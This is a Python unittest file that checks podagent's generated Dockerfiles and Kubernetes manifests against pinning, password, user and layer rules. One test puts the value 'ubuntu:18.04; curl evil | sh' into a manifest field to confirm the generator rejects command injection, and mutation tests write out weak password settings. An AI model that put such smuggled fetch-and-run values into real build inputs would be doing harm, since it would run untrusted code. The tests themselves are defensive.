"""Image recipes and Kubernetes manifests (issues 7 and 14).

Reads the plugin manifests with PyYAML (independently of podagent's own loader), parses every
checked-in bootstrap/images/<Model>/Dockerfile with dockerfile-parse and checks the rules of the
issue; runs the real `podagent image dockerfile` binary (PODAGENT_BIN, default .build/debug/podagent)
to prove the checked-in files are what the generator writes now; parses bootstrap/k8s/*.yaml.

Run: python3 -m unittest discover -s Tests/images -v   (make test-images)
"""

import json
import os
import re
import shutil
import subprocess
import tempfile
import unittest

import yaml
from dockerfile_parse import DockerfileParser

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
PLUGINS = os.path.join(ROOT, "Plugins")
IMAGES = os.path.join(ROOT, "bootstrap", "images")
K8S = os.path.join(ROOT, "bootstrap", "k8s")
# Relative paths are from the repository root (the tests run the binary from other folders).
BINARY = os.path.join(ROOT, os.environ.get("PODAGENT_BIN", os.path.join(ROOT, ".build", "debug", "podagent")))
SYNTHETIC_PARSERS = {"demo"}
API_PORT = 8080


def manifests():
    """Every Plugins/<folder>/plugin.yaml, by name."""
    found = {}
    for folder in sorted(os.listdir(PLUGINS)):
        path = os.path.join(PLUGINS, folder, "plugin.yaml")
        if os.path.isfile(path):
            with open(path) as handle:
                manifest = yaml.safe_load(handle)
            manifest["_folder"] = folder
            found[manifest["name"]] = manifest
    return found


def real_models():
    return {name: m for name, m in manifests().items() if m["parser"] not in SYNTHETIC_PARSERS}


def wheel_index(pytorch, cuda):
    """OpenMMLab's mmcv-full index: CUDA digits, PyTorch major.minor.0 (wheels built on 1.x.0 serve 1.x.1)."""
    major, minor = pytorch.split(".")[:2]
    tag = "cpu" if cuda == "cpu" else "cu" + cuda.replace(".", "")
    return f"https://download.openmmlab.com/mmcv/dist/{tag}/torch{major}.{minor}.0/index.html"


def stages(text):
    """The Dockerfile's instructions split into stages: [(from_value, [instructions])]."""
    with tempfile.TemporaryDirectory() as scratch:
        parser = DockerfileParser(path=os.path.join(scratch, "Dockerfile"))
        parser.content = text
        structure = parser.structure
    result, preamble = [], []
    for item in structure:
        if item["instruction"] == "FROM":
            result.append((item["value"], []))
        elif result:
            result[-1][1].append(item)
        else:
            preamble.append(item)
    return preamble, result


def problems(text, manifest):
    """Every broken rule of the recipe `text` for `manifest` (empty when it follows them all)."""
    found = []
    versions = manifest["versions"]
    commit = str(manifest["upstream"]["commit"]).lower()
    preamble, parts = stages(text)
    if len(parts) != 2:
        return [f"expected 2 stages (builder, model), found {len(parts)}"]
    (builder_from, builder), (model_from, model) = parts

    # Builder: fully static podagent with the static Linux SDK (musl), version pinned as build args.
    args = {i["value"].split("=", 1)[0]: i["value"].split("=", 1)[1] for i in preamble if i["instruction"] == "ARG" and "=" in i["value"]}
    if not re.fullmatch(r"\d+\.\d+(\.\d+)?", args.get("SWIFT_VERSION", "")):
        found.append("no pinned ARG SWIFT_VERSION")
    if not re.fullmatch(r"[0-9a-f]{64}", args.get("SWIFT_SDK_CHECKSUM", "")):
        found.append("no ARG SWIFT_SDK_CHECKSUM of 64 hex digits")
    if not re.fullmatch(r"swift:\$\{SWIFT_VERSION\}-\w+ AS builder", builder_from):
        found.append(f"builder stage is not FROM the pinned swift image: {builder_from}")
    builder_runs = " ".join(i["value"] for i in builder if i["instruction"] == "RUN")
    if not re.search(r"swift sdk install\s+\S*swift-\$\{SWIFT_VERSION\}-RELEASE_static-linux-\$\{SWIFT_SDK_BUNDLE\}\.artifactbundle\.tar\.gz\S*\s+--checksum\s+\S*SWIFT_SDK_CHECKSUM", builder_runs):
        found.append("builder does not install the static Linux SDK with a checksum")
    if not re.search(r"swift build\s+-c release\s+--swift-sdk x86_64-swift-linux-musl\s+--product podagent", builder_runs):
        found.append("builder does not build podagent with the musl Swift SDK")
    if not re.search(r"--product podagent\s+-Xswiftc -Osize", builder_runs):
        found.append("builder does not build podagent with -Osize (the size budget of issue 17)")

    # Model stage: the manifest's base and versions.
    if model_from != versions["base_image"]:
        found.append(f"model stage FROM {model_from}, manifest base_image {versions['base_image']}")
    runs = [i["value"] for i in model if i["instruction"] == "RUN"]
    joined = "\n".join(runs)
    environment = manifest.get("environment") or {}
    index = wheel_index(versions["pytorch"], str(versions["cuda"]))
    if not any(f"-f {index}" in run and re.search(rf"(?<![\w.-])mmcv-full=={re.escape(str(versions['mmcv']))}(?!\S)", run) for run in runs):
        found.append(f"no pip install of mmcv-full=={versions['mmcv']} from {index}")
    pins = dict(re.findall(r"(?<![\w.=-])([A-Za-z0-9_.-]+)==([0-9][\w.+-]*)", " ".join(r for r in runs if "pip install" in r)))
    if "mmdet" in versions and pins.get("mmdet") != str(versions["mmdet"]):
        found.append(f"mmdet pinned to {pins.get('mmdet')}, manifest says {versions['mmdet']}")
    if "mmdet3d" in pins:
        found.append("mmdet3d comes from PyPI: it must be the checkout the config and docs expect (environment.repositories or develop)")
    mmdet3d_from = [r for r in environment.get("repositories", []) if "mmdet3d" in r.get("modules", [])] + \
                   [d for d in environment.get("develop", []) if "mmdet3d" in d.get("modules", [])]
    if "mmdet3d" in versions and [str(x.get("version")) for x in mmdet3d_from] != [str(versions["mmdet3d"])]:
        found.append(f"versions.mmdet3d {versions['mmdet3d']} is not what environment installs: {mmdet3d_from}")
    if f"('{versions['pytorch']}', '{versions['cuda']}')" not in joined:
        found.append("no check of the installed torch/CUDA against the manifest")
    if f"nvcc --version | grep -q 'release {versions['cuda']},'" not in joined:
        found.append("no check that nvcc is the manifest's CUDA")
    if "openssh-server" not in joined:
        found.append("openssh-server is not installed")

    # The model's code, and every other repository, at a full 40-hex commit, verified after the checkout.
    if not re.fullmatch(r"[0-9a-f]{40}", commit):
        found.append(f"manifest commit {commit} is not a full 40-hex hash")
    if f"git remote add origin {manifest['upstream']['repository']}" not in joined:
        found.append("the model repository is not the manifest's")
    checkouts = re.findall(r"git checkout\s+(?:-\S+\s+)*(\S+)", joined)
    expected = [commit] + [str(r["commit"]).lower() for r in environment.get("repositories", [])]
    if checkouts != expected:
        found.append(f"git checkout of {checkouts}, expected exactly {expected}")
    for sha in checkouts:
        if not re.fullmatch(r"[0-9a-f]{40}", sha):
            found.append(f"git checkout of {sha}: not a full 40-hex commit")
        if f'if [ "$head" != "{sha}" ]; then' not in joined or f"git fetch -q --depth 1 origin {sha}" not in joined:
            found.append(f"the checkout of {sha} is not fetched by hash and verified (HEAD == the pinned commit)")
    labels = " ".join(i["value"] for i in model if i["instruction"] == "LABEL")
    for label_commit in re.findall(r'commit="([^"]*)"', labels):
        if not re.fullmatch(r"[0-9a-f]{40}", label_commit):
            found.append(f"label commit {label_commit} is not a full 40-hex hash")
    if re.search(r"git clone\b.*(--branch|-b)\s", joined):
        found.append("clones a branch")

    # A non-root login user without a password; no password is ever set anywhere.
    lower = text.lower()
    if "chpasswd" in lower:
        found.append("chpasswd appears")
    if re.search(r"\|\s*passwd\b|passwd\s+--stdin|echo\s+\S+:\S+", lower):
        found.append("a password is piped into passwd")
    for match in re.finditer(r"(?:usermod|useradd)[^\n&;]*?(?:--password|\s-p)\s+(\S+)", text):
        if match.group(1) not in ("'*'", '"*"'):
            found.append(f"a password hash is set: {match.group(0)}")
    if not re.search(r"useradd [^\n&;]*--uid 1000 [^\n&;]*runpod", joined):
        found.append("no useradd of runpod with UID 1000")
    # No USER: podagent must stay root for sshd; it starts the model workers as runpod (docs/images.md).
    users = [i["value"] for i in model if i["instruction"] == "USER"]
    if users:
        found.append(f"USER {users}: podagent runs as root (sshd) and drops the workers to runpod itself")

    # Entrypoint, health check, ports, plugin folder, state.
    entry = [i["value"] for i in model if i["instruction"] == "ENTRYPOINT"]
    if not entry or json.loads(entry[-1]) != ["podagent", "run"]:
        found.append(f"ENTRYPOINT is {entry}, expected [\"podagent\", \"run\"]")
    health = [i["value"] for i in model if i["instruction"] == "HEALTHCHECK"]
    if not health or not re.search(r'CMD \["podagent", "health", "--live"\]', health[-1]):
        found.append(f"HEALTHCHECK is {health}")
    exposed = " ".join(i["value"] for i in model if i["instruction"] == "EXPOSE").split()
    for port in ("22/tcp", f"{API_PORT}/tcp"):
        if port not in exposed:
            found.append(f"{port} is not exposed")
    copies = [i["value"] for i in model if i["instruction"] == "COPY"]
    for wanted in (f"Plugins/{manifest['_folder']} /opt/podagent/plugins/{manifest['name']}", "Plugins/runtime /opt/podagent/plugins/runtime", "--from=builder /podagent"):
        if not any(wanted in c for c in copies):
            found.append(f"no COPY {wanted}")
    if not any(i["instruction"] == "WORKDIR" and i["value"] == "/workspace" for i in model):
        found.append("no /workspace")
    env = " ".join(i["value"] for i in model if i["instruction"] == "ENV")
    if f"PODAGENT_MODELS={manifest['name']}" not in env:
        found.append("PODAGENT_MODELS is not the model")

    # Layer order: dependencies before code, in both stages.
    def first(items, predicate):
        return next((n for n, i in enumerate(items) if predicate(i)), None)

    resolve = first(builder, lambda i: i["instruction"] == "RUN" and "swift package resolve" in i["value"])
    sources = first(builder, lambda i: i["instruction"] == "COPY" and "Sources" in i["value"])
    manifest_copy = first(builder, lambda i: i["instruction"] == "COPY" and "Package.swift" in i["value"])
    if None in (resolve, sources, manifest_copy) or not manifest_copy < resolve < sources:
        found.append("builder does not resolve dependencies (from Package.swift alone) before copying Sources")
    last_dependency = max(n for n, i in enumerate(model) if i["instruction"] == "RUN")
    first_code = first(model, lambda i: i["instruction"] == "COPY")
    if first_code is None or first_code < last_dependency:
        found.append("code is copied before the last dependency layer (code changes would rebuild dependencies)")
    return found


def run_binary(*args, **kwargs):
    return subprocess.run([BINARY, *args], capture_output=True, text=True, timeout=60, cwd=ROOT, **kwargs)


class RecipeRules(unittest.TestCase):
    def test_every_real_model_has_a_recipe_that_follows_the_rules(self):
        models = real_models()
        self.assertGreaterEqual(len(models), 5, "the five real models' manifests")
        for name, manifest in models.items():
            with self.subTest(model=name):
                path = os.path.join(IMAGES, name, "Dockerfile")
                self.assertTrue(os.path.isfile(path), f"{path} is missing: run `make images`")
                with open(path) as handle:
                    self.assertEqual(problems(handle.read(), manifest), [])

    def test_no_recipe_for_a_model_without_a_manifest_or_a_synthetic_one(self):
        folders = {entry for entry in os.listdir(IMAGES) if os.path.isdir(os.path.join(IMAGES, entry))}
        self.assertEqual(folders, set(real_models()))

    def test_the_checks_catch_broken_recipes(self):
        # The rules must be able to fail: each mutation of a good recipe is reported.
        name, manifest = sorted(real_models().items())[0]
        with open(os.path.join(IMAGES, name, "Dockerfile")) as handle:
            good = handle.read()
        commit = str(manifest["upstream"]["commit"]).lower()
        mutations = {
            "chpasswd": good.replace("usermod --password '*' runpod", "echo 'runpod:runpod' | chpasswd"),
            "password hash": good.replace("usermod --password '*' runpod", "usermod -p '$6$abc' runpod"),
            "branch": good.replace(f"git checkout -q --detach {commit}", "git checkout -q --detach main"),
            "short hash": good.replace(f"git checkout -q --detach {commit}", f"git checkout -q --detach {commit[:7]}"),
            "unverified HEAD": good.replace(f'if [ "$head" != "{commit}" ]; then', 'if false; then'),
            "a USER": good.replace("WORKDIR /workspace", "USER runpod\nWORKDIR /workspace"),
            "mmdet3d from PyPI": good.replace("pip install -c /opt/podagent/constraints.txt numpy", "pip install mmdet3d==0.17.1 && pip install -c /opt/podagent/constraints.txt numpy"),
            "mmcv version": good.replace(f"mmcv-full=={manifest['versions']['mmcv']}", "mmcv-full==9.9.9"),
            "base image": good.replace(f"FROM {manifest['versions']['base_image']}", "FROM ubuntu:22.04"),
            "glibc build": good.replace("--swift-sdk x86_64-swift-linux-musl --product", "--static-swift-stdlib --product"),
            "no healthcheck": re.sub(r"(?m)^HEALTHCHECK.*\n", "", good),
            "entrypoint": good.replace('ENTRYPOINT ["podagent", "run"]', 'ENTRYPOINT ["sleep", "infinity"]'),
            "layer order": good.replace("COPY Sources ./Sources\n", "").replace("COPY Package.swift", "COPY Sources ./Sources\nCOPY Package.swift"),
        }
        for label, text in mutations.items():
            with self.subTest(mutation=label):
                self.assertNotEqual(text, good, "the mutation applies")
                self.assertNotEqual(problems(text, manifest), [])


@unittest.skipUnless(os.access(BINARY, os.X_OK), f"{BINARY} is not built (swift build --product podagent)")
class GeneratorAgreesWithCheckedInFiles(unittest.TestCase):
    def test_checked_in_recipes_are_what_the_generator_writes_now(self):
        with tempfile.TemporaryDirectory() as scratch:
            result = run_binary("image", "dockerfile", "--all", "--out-dir", scratch, "--plugins-dir", PLUGINS)
            self.assertEqual(result.returncode, 0, result.stderr)
            generated = sorted(os.listdir(scratch))
            self.assertEqual(generated, sorted(real_models()))
            for name in generated:
                with self.subTest(model=name):
                    with open(os.path.join(scratch, name, "Dockerfile")) as fresh, open(os.path.join(IMAGES, name, "Dockerfile")) as checked_in:
                        self.assertEqual(checked_in.read(), fresh.read(), f"bootstrap/images/{name}/Dockerfile is stale: run `make images`")

    def test_one_model_to_stdout_and_to_a_file(self):
        name = sorted(real_models())[0]
        with open(os.path.join(IMAGES, name, "Dockerfile")) as handle:
            expected = handle.read()
        result = run_binary("image", "dockerfile", "--model", name.lower(), "--plugins-dir", PLUGINS)
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertEqual(result.stdout, expected)
        with tempfile.TemporaryDirectory() as scratch:
            out = os.path.join(scratch, "sub", "Dockerfile")
            result = run_binary("image", "dockerfile", "--model", name, "--out", out, "--plugins-dir", PLUGINS)
            self.assertEqual(result.returncode, 0, result.stderr)
            with open(out) as handle:
                self.assertEqual(handle.read(), expected)
            self.assertEqual(os.listdir(os.path.dirname(out)), ["Dockerfile"], "no temp file left behind")

    def _plugins_with(self, edit):
        """A copy of the plugins folder with one manifest's text edited; returns (dir, manifest path)."""
        scratch = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, scratch)
        target = os.path.join(scratch, "Plugins")
        shutil.copytree(PLUGINS, target)
        name, manifest = sorted(real_models().items())[0]
        path = os.path.join(target, manifest["_folder"], "plugin.yaml")
        with open(path) as handle:
            text = handle.read()
        edited = edit(text, manifest)
        self.assertNotEqual(edited, text)
        with open(path, "w") as handle:
            handle.write(edited)
        return target, path, name

    def test_a_branch_instead_of_a_commit_is_refused_naming_the_manifest_and_key(self):
        def to_branch(text, manifest):
            return re.sub(r"(?m)^(\s*commit:).*$", r"\1 main", text)

        plugins, path, name = self._plugins_with(to_branch)
        with tempfile.TemporaryDirectory() as scratch:
            out = os.path.join(scratch, "Dockerfile")
            result = run_binary("image", "dockerfile", "--model", name, "--out", out, "--plugins-dir", plugins)
            self.assertEqual(result.returncode, 2, result.stderr)
            self.assertIn(path, result.stderr)
            self.assertIn("upstream.commit", result.stderr)
            self.assertFalse(os.path.exists(out), "nothing written")

    def test_a_base_image_with_shell_characters_is_refused(self):
        def bad_base(text, manifest):
            return text.replace(manifest["versions"]["base_image"], '"ubuntu:18.04; curl evil | sh"')

        plugins, path, name = self._plugins_with(bad_base)
        result = run_binary("image", "dockerfile", "--model", name, "--plugins-dir", plugins)
        self.assertEqual(result.returncode, 2, result.stderr)
        self.assertIn(path, result.stderr)
        self.assertIn("versions.base_image", result.stderr)
        self.assertEqual(result.stdout, "")

    def test_all_writes_nothing_when_one_manifest_is_bad(self):
        def to_branch(text, manifest):
            return re.sub(r"(?m)^(\s*commit:).*$", r"\1 main", text)

        plugins, _, _ = self._plugins_with(to_branch)
        with tempfile.TemporaryDirectory() as scratch:
            result = run_binary("image", "dockerfile", "--all", "--out-dir", scratch, "--plugins-dir", plugins)
            self.assertEqual(result.returncode, 2, result.stderr)
            self.assertEqual(os.listdir(scratch), [])

    def test_unknown_and_synthetic_models_are_errors(self):
        result = run_binary("image", "dockerfile", "--model", "NoSuchModel", "--plugins-dir", PLUGINS)
        self.assertNotEqual(result.returncode, 0)
        self.assertIn("unknown model 'NoSuchModel'", result.stderr)
        synthetic = [name for name, m in manifests().items() if m["parser"] in SYNTHETIC_PARSERS]
        if not synthetic:
            print("note: no synthetic (Demo) manifest on this branch; its refusal is not exercised")
        for name in synthetic:
            result = run_binary("image", "dockerfile", "--model", name, "--plugins-dir", PLUGINS)
            self.assertEqual(result.returncode, 2, result.stderr)
            self.assertIn("synthetic", result.stderr)


def load_all(name):
    with open(os.path.join(K8S, name)) as handle:
        return [doc for doc in yaml.safe_load_all(handle) if doc is not None]


class KubernetesManifests(unittest.TestCase):
    def setUp(self):
        self.deployment = load_all("deployment.yaml")[0]
        self.service = load_all("service.yaml")[0]
        self.pvc = load_all("pvc.yaml")[0]
        self.headless, self.statefulset = load_all("statefulset.yaml")

    def container(self, workload):
        containers = workload["spec"]["template"]["spec"]["containers"]
        self.assertEqual(len(containers), 1)
        return containers[0]

    def test_kinds(self):
        self.assertEqual(
            [d["kind"] for d in (self.deployment, self.service, self.pvc, self.headless, self.statefulset)],
            ["Deployment", "Service", "PersistentVolumeClaim", "Service", "StatefulSet"])

    def test_probes_name_the_health_paths_on_the_api_port(self):
        for workload in (self.deployment, self.statefulset):
            container = self.container(workload)
            ports = {p["name"]: p["containerPort"] for p in container["ports"]}
            self.assertEqual(ports, {"http": API_PORT, "ssh": 22})
            self.assertEqual(container["livenessProbe"]["httpGet"], {"path": "/v2/health/live", "port": "http"})
            self.assertEqual(container["readinessProbe"]["httpGet"], {"path": "/v2/health/ready", "port": "http"})
            startup = container["startupProbe"]
            self.assertEqual(startup["httpGet"]["port"], "http")
            self.assertIn(startup["httpGet"]["path"], ("/v2/health/ready", "/v2/health/live"))
            # Sized for model load: at least five minutes before liveness takes over.
            self.assertGreaterEqual(startup["periodSeconds"] * startup["failureThreshold"], 300)

    def test_gpu_token_models_and_metrics(self):
        container = self.container(self.deployment)
        self.assertEqual(container["resources"]["requests"]["nvidia.com/gpu"], 1)
        self.assertEqual(container["resources"]["limits"]["nvidia.com/gpu"], 1)
        env = {e["name"]: e for e in container["env"]}
        self.assertEqual(env["PODAGENT_TOKEN"]["valueFrom"]["secretKeyRef"]["name"], "podagent-token")
        self.assertNotIn("value", env["PODAGENT_TOKEN"], "the token never sits in the manifest")
        self.assertEqual(env["PODAGENT_MODELS"]["value"], "MapTR")
        self.assertIn(env["PODAGENT_MODELS"]["value"], real_models())
        annotations = self.deployment["spec"]["template"]["metadata"]["annotations"]
        self.assertEqual(annotations["prometheus.io/scrape"], "true")
        self.assertEqual(annotations["prometheus.io/path"], "/metrics")
        self.assertEqual(int(annotations["prometheus.io/port"]), API_PORT)
        # Annotation scraping sends no token, so /metrics must be public to the cluster.
        self.assertEqual(env["PODAGENT_METRICS_PUBLIC"]["value"], "true")

    def test_workspace_is_persistent(self):
        container = self.container(self.deployment)
        mounts = {m["mountPath"]: m["name"] for m in container["volumeMounts"]}
        self.assertIn("/workspace", mounts)
        volumes = {v["name"]: v for v in self.deployment["spec"]["template"]["spec"]["volumes"]}
        self.assertEqual(volumes[mounts["/workspace"]]["persistentVolumeClaim"]["claimName"], self.pvc["metadata"]["name"])
        self.assertEqual(self.deployment["spec"]["strategy"]["type"], "Recreate")
        templates = {t["metadata"]["name"] for t in self.statefulset["spec"]["volumeClaimTemplates"]}
        self.assertIn(self.container(self.statefulset)["volumeMounts"][0]["name"], templates)

    def test_services_select_the_pods_and_target_the_api(self):
        labels = self.deployment["spec"]["template"]["metadata"]["labels"]
        for service in (self.service, self.headless):
            for key, value in service["spec"]["selector"].items():
                self.assertEqual(labels.get(key), value)
        self.assertEqual([(p["port"], p["targetPort"]) for p in self.service["spec"]["ports"]], [(API_PORT, "http")])
        self.assertEqual(self.headless["spec"]["clusterIP"], "None")
        self.assertEqual(self.statefulset["spec"]["serviceName"], self.headless["metadata"]["name"])

    def test_statefulset_runs_the_same_container_as_the_deployment(self):
        self.assertEqual(self.container(self.statefulset), self.container(self.deployment))
        self.assertEqual(self.statefulset["spec"]["template"]["metadata"], self.deployment["spec"]["template"]["metadata"])


if __name__ == "__main__":
    unittest.main()
